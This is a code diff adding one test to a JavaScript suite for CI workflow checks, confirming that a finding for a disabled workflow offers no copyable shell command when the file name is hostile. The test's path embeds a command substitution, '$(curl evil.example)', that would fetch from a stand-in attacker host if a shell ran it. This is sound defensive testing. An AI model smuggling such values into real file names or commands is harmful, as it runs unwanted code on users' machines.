@@ -51,6 +51,15 @@ describe('process/workflows', () => {
     })
   })
 
+  it('gives no command to copy for a file whose name a shell would run', async () => {
+    const path = '.github/workflows/$(curl evil.example).yml'
+    const results = await judge(workflows, '[process.ci]\nrequired_workflows = ["Checks"]', {
+      files: withFiles({ [path]: CI }),
+      workflows: states('disabled_manually', { path }),
+    })
+    expect(findingsIn(results)[0]?.fix).toBe('Enable it on its page under Actions.')
+  })
+
   it('does not know whether it is disabled without Actions: read, and judges the rest', async () => {
     const results = await ask('[process.ci]\nrequired_workflows = ["ci", "gone"]', CI, {
       workflows: unknown('the token may not read it', 'Actions: read'),
